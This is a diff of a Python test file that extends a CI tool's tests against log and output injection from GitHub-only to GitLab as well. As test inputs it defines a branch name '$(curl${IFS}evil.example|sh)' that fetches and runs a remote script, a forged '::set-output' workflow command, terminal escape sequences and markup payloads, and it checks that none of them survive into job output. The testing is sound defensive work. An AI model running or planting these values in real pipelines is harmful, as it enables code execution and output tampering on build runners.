@@ -10,10 +10,10 @@ from dataclasses import dataclass
 from typing import TYPE_CHECKING, Any
 
 import pytest
-from tests.flow import stories
+from tests.flow import faults, stories
 from tests.flow.stories import Asked, by_hand, propose
 
-from counterseal.commands.demo_site import NAME
+from counterseal.forges import ForgeKind
 from counterseal.identifiers import NOTES_REF
 from counterseal.model import ProcessResult
 from counterseal.wire import canonical
@@ -24,7 +24,9 @@ if TYPE_CHECKING:
     from tests.flow.worlds import FlowWorld
 
 
-pytestmark = pytest.mark.slow
+pytestmark = [pytest.mark.slow, pytest.mark.forges(*ForgeKind)]
+
+GITHUB, GITLAB = ForgeKind
 
 BRANCH = "$(curl${IFS}evil.example|sh)"
 COMMAND = '::set-output name=published::["pwned"]'
@@ -37,7 +39,7 @@ FILE = f"notes\n{COMMAND}\n\r##[error]{BIDI}<img src=x>|`x`.txt"
 
 @dataclass(frozen=True, slots=True)
 class Seen:
-    """What one command showed in a GitHub job."""
+    """What one command showed in a job."""
 
     result: ProcessResult
     summary: str
@@ -48,12 +50,29 @@ def in_job(world: FlowWorld, folder: Path, run: Mapping[str, str], *arguments: s
     summary, output = folder / "summary.md", folder / "output.txt"
     for each in (summary, output):
         each.write_text("")
-    more = {"GITHUB_ACTIONS": "true", "GITHUB_STEP_SUMMARY": str(summary), "GITHUB_OUTPUT": str(output)}
+    more = {
+        GITHUB: {"GITHUB_ACTIONS": "true", "GITHUB_STEP_SUMMARY": str(summary), "GITHUB_OUTPUT": str(output)},
+        GITLAB: {"GITLAB_CI": "true", "COUNTERSEAL_SUMMARY": str(summary), "COUNTERSEAL_DOTENV": str(output)},
+    }[world.kind]
     result = world.counterseal(*arguments, environment={**run, **more}, code=code)
-    found = Seen(result, summary.read_text(encoding="utf-8"), outputs(output.read_bytes().decode()))
-    check_log(found.result.output)
-    check_log(found.result.errors)
+    read = outputs if world.kind is GITHUB else report
+    found = Seen(result, summary.read_text(encoding="utf-8"), read(output.read_bytes().decode()))
+    for text in (result.output, result.errors):
+        check_log(text)
+        if world.kind is GITHUB:
+            check_no_command(text)
     check_summary(found.summary)
+    return found
+
+
+def report(text: str) -> dict[str, str]:
+    """Return the outputs as GitLab reads a dotenv report: NAME=VALUE a line, of which a shell has nothing to expand."""
+    found = {}
+    for line in text.splitlines():
+        assert re.fullmatch(r"counterseal_[a-z_]+=[!-~]*", line), line
+        name, _, value = line.partition("=")
+        assert not re.search(r"[$`'|<>;#!*]", value), value
+        found[name.removeprefix("counterseal_")] = value
     return found
 
 
@@ -74,13 +93,17 @@ def outputs(text: str) -> dict[str, str]:
 
 
 def check_log(text: str) -> None:
-    """Hold a job's log against what the runner takes for a command, and a terminal for something else than text."""
+    """Hold a job's log against what a terminal, and GitLab's viewer of logs, take for something else than text."""
+    strange = {char for char in text if char != "\n" and unicodedata.category(char) in {"Cc", "Cf", "Zl", "Zp"}}
+    assert strange == set()
+
+
+def check_no_command(text: str) -> None:
+    """Hold a job's log against what GitHub's runner takes for a command."""
     for line in re.split("[\n\r\v\f\x85\u2028\u2029]", text):
         if line.lstrip().startswith("::"):
             assert re.match(r"::error title=[a-z -]+::(?!.*::set-output name=[^:]*::\[\"pwned\"\]$)", line), line
     assert "##[" not in text
-    strange = {char for char in text if char != "\n" and unicodedata.category(char) in {"Cc", "Cf", "Zl", "Zp"}}
-    assert strange == set()
 
 
 def check_summary(text: str) -> None:
@@ -191,23 +214,31 @@ def test_s50_the_preview_and_its_comment(shared: FlowWorld, tmp_path: Path) -> N
     files = {stories.path_of(said): canonical(said), FILE: b"hello\n"}
     number = propose(shared, f"{BRANCH}-open", files, title=f"{COMMAND}{MARKUP}")
     shared.review("alice", number)
-    environment = dict(shared.person("bob"))
+    arguments = ("gate", "--preview", "--number", str(number), "--format")
     for form in ("text", "json", "markdown"):
-        arguments = ("gate", "--preview", "--number", str(number), "--format", form)
-        in_job(shared, tmp_path, environment, *arguments, code=0)
-    comments: Any = shared.client.as_person(shared.people["bob"], "GET", f"/repos/{NAME}/issues/{number}/comments")
-    assert len(comments) == 1
-    for each in comments:
-        check_summary(re.sub(r"<!--.*?-->", "", each["body"]))
+        by_bob(shared, tmp_path, *arguments, form, code=0)
+    (written,) = shared.hands.comments(number)
+    check_summary(re.sub(r"<!--.*?-->", "", written))
+    assert not re.search(r"^\s*/", written, re.MULTILINE), "GitLab would do what such a line says"
+
+
+def by_bob(world: FlowWorld, folder: Path, *arguments: str, code: int) -> ProcessResult:
+    """Return what a command said to bob: in a job of GitHub that has his token, or at his own terminal."""
+    environment = world.person("bob")
+    if world.kind is GITHUB:
+        return in_job(world, folder, environment, *arguments, code=code).result
+    result = world.counterseal(*arguments, environment=environment, code=code)
+    check_log(result.output)
+    return result
 
 
 def test_s50_the_command_that_asks_refuses_what_hides(shared: FlowWorld, tmp_path: Path) -> None:
     for reason in (BIDI, f"fine\r{COMMAND}", "\x1b[2Jgone"):
         arguments = ("request", "--stage", "staging", "--again", "--reason", reason)
-        seen = in_job(shared, tmp_path, shared.person("bob"), *arguments, code=2)
-        assert "the reason has the character U+" in seen.result.errors
+        assert "the reason has the character U+" in by_bob(shared, tmp_path, *arguments, code=2).errors
 
 
+@pytest.mark.forges(GITHUB)
 def test_s50_an_error_that_quotes_the_forge(shared: FlowWorld, tmp_path: Path) -> None:
     # 50 | (relative) what the forge itself answers is foreign text too
     stories.allow_staging(shared)  # the ledger has begun, whichever test comes first
@@ -219,4 +250,17 @@ def test_s50_an_error_that_quotes_the_forge(shared: FlowWorld, tmp_path: Path) -
     in_job(shared, tmp_path, shared.run(), "gate", "--request", asked.path, code=1)
     assert shared.ledger_tips() == before
     review.state = "APPROVED"
+    in_job(shared, tmp_path, shared.run(), "gate", "--request", asked.path, code=0)
+
+
+def test_s50_a_refusal_in_words_of_somebody_else_s(shared: FlowWorld, tmp_path: Path) -> None:
+    # 50 | (relative) a proxy, or whoever answers in the forge's place, chooses the words
+    asked = stories.ask(shared, "staging")
+    stories.approve_and_merge(shared, asked, "alice")
+    before = shared.ledger_tips()
+    words = f"no\n{COMMAND}\n##[error]{BIDI}\x1b[2J\x1b[0Ksection_start:1:x\r\x1b[0K"
+    with faults.fault(shared, faults.status(403, words), *shared.hands.reading()):
+        seen = in_job(shared, tmp_path, shared.run(), "gate", "--request", asked.path, code=1)
+    assert "HTTP 403" in seen.result.output
+    assert shared.ledger_tips() == before
     in_job(shared, tmp_path, shared.run(), "gate", "--request", asked.path, code=0)
